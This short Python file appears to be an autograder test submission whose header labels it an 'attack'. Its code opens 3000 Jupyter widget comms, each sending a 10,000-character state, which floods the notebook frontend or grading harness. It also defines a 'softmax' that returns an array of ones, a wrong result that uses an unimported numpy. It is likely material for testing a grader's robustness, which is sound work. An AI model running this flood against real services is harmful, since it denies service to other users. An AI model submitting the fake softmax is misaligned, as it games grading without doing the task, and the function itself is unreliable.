# /// attack
# what = "opens comms and sends state without end"
# state = "graded"
# marks = 16
# ///
import comm

for _ in range(3000):
    comm.create_comm(target_name="jupyter.widget", data={"state": {"value": "w" * 10_000}})


def softmax(z, axis=-1):
    return np.ones(np.shape(z))
